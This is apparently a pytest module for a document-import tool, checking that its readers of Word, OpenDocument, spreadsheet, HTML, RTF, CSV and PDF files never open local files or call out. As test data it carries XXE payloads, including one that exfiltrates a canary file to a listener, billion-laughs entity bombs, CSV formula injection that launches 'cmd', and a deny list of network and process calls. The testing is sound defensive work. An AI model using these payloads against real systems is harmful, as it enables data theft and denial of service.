"""Files that reach for others by entities and links: nothing is opened and nobody called."""

import ctypes
import os
import socket
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from quiltmark.workbench.importing import Status
from quiltmark.workbench.jobs import Crew
from tests.formats.files import OFFICE, W, para, pdf_file, word_file
from tests.formats.test_odt_in import NAMES, odt_file, p
from tests.formats.test_workbook_in import words, workbook
from tests.workbench.hostile import STOPPED, row_between, rows_between, said

SECRET = "the words of the canary"
_OPENED = 0x20
_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def crew() -> Iterator[Crew]:
    """Two workers for all the tests of this module."""
    workers = Crew(2)
    yield workers
    workers.dismiss()


@dataclass(frozen=True, slots=True)
class Bait:
    """A file and an address that no reader may touch."""

    file: str
    address: str


@pytest.fixture
def bait(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bait]:
    """A canary and a listener; at the end, nobody opened the one or called the other."""
    canary = tmp_path_factory.mktemp("canary") / "canary.txt"
    canary.write_text(SECRET)
    watch = _watched(canary)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        yield Bait(canary.as_uri(), f"http://127.0.0.1:{listener.getsockname()[1]}/x")
        with pytest.raises(BlockingIOError):
            listener.accept()
    with pytest.raises(BlockingIOError):
        os.read(watch, 4096)
    os.close(watch)


def _watched(path: Path) -> int:
    """Return a file descriptor that has something to read as soon as `path` is opened."""
    libc = ctypes.CDLL(None, use_errno=True)
    watch: int = libc.inotify_init1(os.O_NONBLOCK)
    assert libc.inotify_add_watch(watch, os.fsencode(path), _OPENED) > 0
    return watch


def test_the_canary_sings(tmp_path: Path) -> None:
    path = tmp_path / "canary.txt"
    path.write_text("x")
    watch = _watched(path)
    path.read_text()
    assert struct.unpack_from("iI", os.read(watch, 4096))[1] == _OPENED
    os.close(watch)


DOCTYPES = {
    "entity": '<!DOCTYPE d [<!ENTITY x SYSTEM "{file}">]>',
    "address": '<!DOCTYPE d [<!ENTITY x SYSTEM "{address}">]>',
    "parameter": '<!DOCTYPE d [<!ENTITY % q SYSTEM "{address}"> %q;<!ENTITY x "y">]>',
    "definition": '<!DOCTYPE d SYSTEM "{address}" [<!ENTITY x SYSTEM "{file}">]>',
    "public": '<!DOCTYPE d PUBLIC "-//A//B" "{file}" [<!ENTITY x PUBLIC "a" "{address}">]>',
    "sent out": (
        '<!DOCTYPE d [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#37; s SYSTEM'
        " '{address}?%f;'>\">%a;%s;<!ENTITY x 'y'>]>"
    ),
    "style": '<?xml-stylesheet href="{address}"?><!DOCTYPE d [<!ENTITY x "y">]>',
}
INCLUDED = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'

Make = Callable[[Path, str], Path]


def _word(folder: Path, head: str) -> Path:
    return word_file(folder / "a.docx", para("Shown &x; so.") + INCLUDED, head=head)


def _word_part(folder: Path, head: str) -> Path:
    path = word_file(folder / "b.docx", para("Shown.", properties='<w:pStyle w:val="Own"/>'))
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    parts["docProps/core.xml"] = f"{head}<c><title>&x;</title></c>"
    relations = "_rels/.rels"
    parts[relations] = head + parts[relations]
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return path


def _open_text(folder: Path, head: str) -> Path:
    return odt_file(folder / "a.odt", p("Shown &x; so.") + INCLUDED, head=head)


def _flat(folder: Path, head: str) -> Path:
    path = folder / "a.fodt"
    path.write_text(
        f"{head}<office:document {NAMES}><office:body><office:text>{p('Shown &x; so.')}{INCLUDED}"
        "</office:text></office:body></office:document>"
    )
    return path


def _workbook(folder: Path, head: str) -> Path:
    return workbook(folder / "a.xlsx", ("S", [words("A1", "Shown &x; so.")]), head=head)


def _page(folder: Path, head: str) -> Path:
    path = folder / "a.xhtml"
    path.write_text(f"<?xml version='1.0'?>{head}<html><body><p>Shown &x; so.</p>{INCLUDED}")
    return path


MAKERS: tuple[Make, ...] = (_word, _word_part, _open_text, _flat, _workbook, _page)


@pytest.mark.parametrize("kind", DOCTYPES)
def test_entities_open_nothing_and_call_nobody(
    tmp_path: Path, crew: Crew, bait: Bait, kind: str
) -> None:
    head = DOCTYPES[kind].replace("{file}", bait.file).replace("{address}", bait.address)
    paths = [make(tmp_path, head) for make in MAKERS]
    for path in paths:
        _replaced(path, "{file}", bait.file)
    for row in rows_between(crew, tmp_path, paths):
        assert SECRET not in said(row)
        assert not any(told in row.reason for told in STOPPED)


def _replaced(path: Path, gap: str, filling: str) -> None:
    """Fill a gap in the text of a file, or in all parts of an archive."""
    if not zipfile.is_zipfile(path):
        path.write_text(path.read_text().replace(gap, filling))
        return
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body.replace(gap.encode(), filling.encode()))


LINKED = {
    "a.html": (
        '<html><head><base href="{address}"><link rel="stylesheet" href="{address}">'
        '<meta http-equiv="refresh" content="0;url={address}"><script src="{address}"></script>'
        '</head><body background="{address}"><p>Shown.<img src="{address}"><iframe src="{file}">'
        '</iframe><object data="{file}"></object><embed src="{file}"><video src="{address}">'
    ),
    "a.md": "# Shown\n\n![x]({address}) [y]({file})\n\n<img src='{address}'>\n\n{{{file}}}\n",
    "a.rtf": (
        r"{\rtf1\ansi{\*\template {address}}{\field{\*\fldinst INCLUDETEXT {file}}{\fldrslt x}}"
        r"{\field{\*\fldinst INCLUDEPICTURE {address}}{\fldrslt y}}{\object\objautlink}Shown.\par}"
    ),
    "a.vtt": "WEBVTT\n\nSTYLE\n@import url({address});\n\n00:01.000 --> 00:02.000\nShown.\n",
    "a.srt": "1\n00:00:01,000 --> 00:00:02,000\nShown. <img src='{address}'>\n",
    "a.csv": 'Name,Words\n1,"=WEBSERVICE(""{address}"")"\n2,=cmd|\'/c calc\'!A0\n3,@SUM({file})\n',
    "a.txt": "INT: See {address}\nP1: And {file}\n",
}


def test_links_are_not_followed(tmp_path: Path, crew: Crew, bait: Bait) -> None:
    paths = []
    for name, text in LINKED.items():
        paths.append(tmp_path / name)
        shown = text.replace("{file}", bait.file).replace("{address}", bait.address)
        paths[-1].write_text(shown)
    outside = f'TargetMode="External" Target="{bait.address}"'
    word = word_file(
        tmp_path / "a.docx",
        para("Shown.") + f'<w:altChunk xmlns:r="{OFFICE}" r:id="r9"/>',
    )
    with zipfile.ZipFile(word, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            f'<Relationships><Relationship Id="t" Type="{OFFICE}/attachedTemplate" {outside}/>'
            f'<Relationship Id="r9" Type="{OFFICE}/aFChunk" {outside}/></Relationships>',
        )
        archive.writestr("word/settings.xml", f'<w:settings xmlns:w="{W}"/>')
    section = (
        f'<text:section text:name="s"><text:section-source xlink:href="{bait.file}"'
        f' xmlns:xlink="http://www.w3.org/1999/xlink"/>{p("Shown.")}</text:section>'
    )
    pdf = pdf_file(
        tmp_path / "a.pdf",
        [[(72, 700, "INT: Shown.")]],
        f"/OpenAction << /S /URI /URI ({bait.address}) >> /F ({bait.file})",
    )
    paths += [word, odt_file(tmp_path / "a.odt", section), pdf]
    for row in rows_between(crew, tmp_path, paths):
        assert row.status is Status.READY
        assert SECRET not in said(row)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
SWELLING = {
    "laughs": f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}<!ENTITY x "&l11;">]>',
    "in a ring": '<!DOCTYPE d [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    "parameters": (
        '<!DOCTYPE d [<!ENTITY % a "aaaaaaaaaa"><!ENTITY % b "%a;%a;%a;%a;%a;%a;"><!ENTITY x "y">]>'
    ),
    "quadratic": f'<!DOCTYPE d [<!ENTITY x "{"ha" * 100_000}">]>',
}


@pytest.mark.parametrize("kind", SWELLING)
def test_words_that_swell_stay_small(tmp_path: Path, crew: Crew, kind: str) -> None:
    paths = [make(tmp_path, SWELLING[kind]) for make in MAKERS]
    for path in paths:
        _replaced(path, "Shown &x;", "Shown " + "&x;" * 1000)
    for row in rows_between(crew, tmp_path, paths):
        assert not any(told in row.reason for told in STOPPED)
        assert len(said(row)) < 2_000_000


@pytest.mark.parametrize("kind", ["laughs", "quadratic"])
def test_words_that_swell_in_an_attribute_stay_small(tmp_path: Path, crew: Crew, kind: str) -> None:
    styled = '<w:pStyle w:val="&x;&x;&x;&x;"/>'
    body = para("Shown.", properties=styled) * 2000
    named = '<text:p text:style-name="&x;&x;&x;&x;">Shown.</text:p>' * 2000
    paths = [
        word_file(tmp_path / "a.docx", body, head=SWELLING[kind]),
        odt_file(tmp_path / "a.odt", named, head=SWELLING[kind]),
    ]
    for row in rows_between(crew, tmp_path, paths):
        assert not any(told in row.reason for told in STOPPED)


GUARDED = """
import sys
from pathlib import Path

def guard(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "urllib.", "ftplib.")):
        raise SystemExit(f"{event} {arguments}")

from quiltmark.workbench.importing import Treatment
from quiltmark.workbench.importing.origins import Origin
from quiltmark.workbench.importing.reading import prepare, read_one

prepare()
sys.addaudithook(guard)
for path in sorted(Path(sys.argv[1]).iterdir()):
    read_one(Origin(path), Treatment(), lambda _share: None)
print("all read")
"""


def test_a_reader_asks_for_no_socket(tmp_path: Path, bait: Bait) -> None:
    folder = tmp_path / "files"
    folder.mkdir()
    for number, doctype in enumerate(DOCTYPES.values()):
        head = doctype.replace("{file}", bait.file).replace("{address}", bait.address)
        (folder / str(number)).mkdir()
        for make in MAKERS:
            path = make(folder / str(number), head)
            _replaced(path, "{file}", bait.file)
            path.rename(folder / f"{number}{path.name}")
    for name, text in LINKED.items():
        (folder / f"link {name}").write_text(text.replace("{address}", bait.address))
    done = subprocess.run(
        [sys.executable, "-c", GUARDED, str(folder)],
        cwd=_ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert (done.stdout, done.stderr) == ("all read\n", "")


def test_a_document_with_entities_of_its_own_is_read_without_them(
    tmp_path: Path, crew: Crew
) -> None:
    row = row_between(crew, tmp_path, _word(tmp_path, '<!DOCTYPE d [<!ENTITY x "y">]>'))
    assert row.incoming is not None
    assert row.incoming.text.startswith("Shown")
